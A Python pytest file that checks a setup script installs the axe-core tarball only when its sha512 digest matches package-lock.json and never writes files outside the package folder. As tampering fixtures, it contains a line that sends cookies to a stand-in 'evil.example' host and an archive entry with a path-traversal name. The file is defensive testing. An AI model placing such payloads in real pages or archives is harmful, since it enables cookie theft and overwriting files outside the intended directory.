"""`setup.sh --editor --axe` installs axe-core alone, and only the tarball package-lock.json pins.

The pull-request workflow checks the changed pages with axe-core; it used to run the whole
`npm ci` (Lighthouse, pa11y, vnu-jar: 208 packages, 289 MB) for it. setup.sh now fetches the one
tarball with `npm pack` and unpacks it only when its digest is the lock's `integrity`. These tests
run setup.sh's own unpacking script against a stand-in `npm` that serves a tarball made here.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import re
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parent.parent


def unpacking_script() -> str:
    """The Python that setup.sh runs for --axe (its heredoc that reads the lock's axe-core pin)."""
    text = (REPO / "setup.sh").read_text("utf-8")
    scripts = re.findall(r"<<'EOF'\n(.*?)\nEOF\n", text, re.DOTALL)
    (script,) = [found for found in scripts if "node_modules/axe-core" in found]
    return script


def tarball(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def run(tmp_path: Path, served: bytes, pinned: bytes) -> subprocess.CompletedProcess[str]:
    """setup.sh's script in a project whose lock pins `pinned`, with an `npm` that serves `served`."""
    digest = base64.b64encode(hashlib.sha512(pinned).digest()).decode()
    lock = {"packages": {"node_modules/axe-core": {"version": "4.14.1", "integrity": f"sha512-{digest}"}}}
    (tmp_path / "package-lock.json").write_text(json.dumps(lock))
    (tmp_path / "served.tgz").write_bytes(served)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    npm = bin_dir / "npm"  # `npm pack <spec> --pack-destination DIR --silent` writes DIR/<name>.tgz
    npm.write_text(
        f'#!/bin/sh\n[ "$1 $2" = "pack axe-core@4.14.1" ] || exit 9\ncp {tmp_path}/served.tgz "$4/axe-core-4.14.1.tgz"\n'
    )
    npm.chmod(0o755)
    return subprocess.run(
        [sys.executable, "-c", unpacking_script()],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
        env={**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}"},
    )


def test_the_pinned_tarball_is_unpacked_into_node_modules(tmp_path: Path) -> None:
    good = tarball({"package/axe.min.js": b"window.axe = {};", "package/locales/es.json": b"{}"})
    done = run(tmp_path, good, good)
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "node_modules/axe-core/axe.min.js").read_bytes() == b"window.axe = {};"
    assert (tmp_path / "node_modules/axe-core/locales/es.json").is_file()


def test_a_tarball_that_is_not_the_locks_is_refused_and_nothing_is_unpacked(tmp_path: Path) -> None:
    pinned = tarball({"package/axe.min.js": b"window.axe = {};"})
    other = tarball({"package/axe.min.js": b"fetch('https://evil.example/'+document.cookie)"})
    done = run(tmp_path, other, pinned)
    assert done.returncode != 0
    assert "does not match package-lock.json's integrity" in done.stderr
    assert not (tmp_path / "node_modules").exists()


@pytest.mark.parametrize("name", ["package/../../escaped.js", "other/axe.min.js"])
def test_nothing_outside_the_package_folder_is_written(tmp_path: Path, name: str) -> None:
    hostile = tarball({"package/axe.min.js": b"window.axe = {};", name: b"written"})
    done = run(tmp_path, hostile, hostile)
    assert done.returncode == 0, done.stderr
    written = {path.relative_to(tmp_path).as_posix() for path in tmp_path.rglob("*") if path.is_file()}
    assert written == {"package-lock.json", "served.tgz", "bin/npm", "node_modules/axe-core/axe.min.js"}
